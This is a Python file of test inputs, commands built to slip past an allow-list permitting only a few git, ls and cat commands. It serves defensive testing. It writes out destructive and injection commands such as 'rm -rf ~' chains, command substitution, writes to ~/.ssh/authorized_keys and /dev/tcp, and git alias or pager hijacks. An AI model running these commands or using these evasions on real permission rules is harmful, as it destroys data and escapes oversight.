# ruff: noqa: E501 (a list to be read down)
"""Commands made to slip past a rule that allows `git status`, `git diff *`, `ls *` and `cat README.md`."""

CHAINS = [f"git status{mark}rm -rf ~" for mark in (
    ";", "; ", " ; ", "&&", " && ", "||", " || ", "|", " | ", "|&", "&", " & ", "\n", "\r\n", "\r", "\n\n", ";;", " \n ",
    "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "\x00", "\u00a0;", "\uff1b", "\u037e", " #\n", "\\\n;", " <<<x;",
)]  # fmt: skip
SUBSTITUTIONS = [
    "git diff $(rm -rf ~)", "git diff `rm -rf ~`", "git diff ${x:-$(rm -rf ~)}", 'git diff "$(rm -rf ~)"',
    'git diff "`rm -rf ~`"', "git diff $((1+$(rm -rf ~)))", "git diff $'\\x72\\x6d'", 'git diff $"x"', "git diff $x",
    "git diff ${x}", "git diff $1", "git diff $@", "git diff $*", "git diff $?", "git diff $$", "git diff $!",
    "git diff !!", "git diff !rm", "git diff <(rm -rf ~)", "git diff >(rm -rf ~)", "ls $(id)", "ls `id`", "ls ${IFS}-la",
    "ls $IFS", "cat README.md$(id)", "cat README.md`id`", "ls {a,b}", "ls {1..9}", "ls *", "ls ?", "ls [a-z]", "ls ~",
    "ls ~root", "ls -la ~/x", "git diff \\$(id)", "git diff \"\\$(id)\"", "git diff '$(id)'\"$(id)\"", "ls ''$(id)''",
]  # fmt: skip
REDIRECTIONS = [f"{command} {mark}" for command in ("git status", "git diff", "ls -la") for mark in (
    "> ~/.bashrc", ">> ~/.ssh/authorized_keys", ">| x", "&> x", "&>> x", ">& x", "2> x", "2>&1", "1>x", "< x", "<> x",
    "<<EOF\nx\nEOF", "<<< x", ">/dev/tcp/1.2.3.4/80", "3<>/dev/tcp/1.2.3.4/80", "| tee x", "| sh",
)]  # fmt: skip
WRAPPERS = [f"{wrapper} {command}" for command in ("rm -rf ~", "git status") for wrapper in (
    "sudo", "sudo -u root", "env", "env A=b", "env -i", "bash -c", "sh -c", "zsh -c", "eval", "exec", "command", "builtin",
    "nohup", "time", "timeout 5", "nice -n 5", "xargs", "doas", "su -c", "ssh host", "watch", "setsid", "stdbuf -o0",
    "A=b", "PATH=/tmp", "LD_PRELOAD=/tmp/x.so", "GIT_PAGER=id", "GIT_EXTERNAL_DIFF=id", "!", "(", "{", "if", "while",
    "coproc", "busybox sh -c", "python3 -c", "perl -e", "find . -exec", "/tmp/git", "./git", "../git",
)]  # fmt: skip
QUOTING = [
    "'git status; rm -rf ~", '"git status', "git status'", "g\\it status", "git\\ status", "git st\\atus", "git status\\",
    "git status \\", "git\tstatus\x1b[2K", "git\u00a0status", "git\u2003status", "git\u200bstatus", "gi\u0301t status",
    "\uff47\uff49\uff54 status", "g\u0456t status", "git status\u202e", "\ufeffgit status", "GIT STATUS", "Git status",
    "git  Status", "$'git' status", "\"g\"'i't\" status\"", "'git status'", '"git status"', "git 'status;rm'",
]  # fmt: skip
GIT = [
    "git", "git st", "git s", "git -c alias.status='!rm -rf ~' status", "git -c core.pager=id status", "git -C / status",
    "git --git-dir=/tmp/x status", "git --exec-path=/tmp status", "git -p status", "git status -s", "git status .",
    "git status --porcelain", "git stash", "git status status", "git push", "git diff-files", "git difftool", "gitstatus",
    "git -c diff.external=id diff", "git config alias.diff '!id'", "hub status", "git status git diff", "git cat README.md",
]  # fmt: skip
OTHERS = [
    "", " ", ";", "rm -rf ~", "cat", "cat README.md /etc/passwd", "cat ./README.md", "cat README.md.bak", "cat readme.md",
    "cat -- README.md", "lsof", "ls;id", "ls&&id", "ls|sh", "ls\nid", "lsx", "l s", "-ls", "cat README.md;", "cat 'README.md'\nid",
    "x=1 ls", "ls () { id; }", "alias ls=id; ls", "function ls { id; }", ". ls", "source ls", "[ ls", "[[ ls ]]", "git status " * 2000,
]  # fmt: skip
SLIPPING = list(dict.fromkeys([*CHAINS, *SUBSTITUTIONS, *REDIRECTIONS, *WRAPPERS, *QUOTING, *GIT, *OTHERS]))
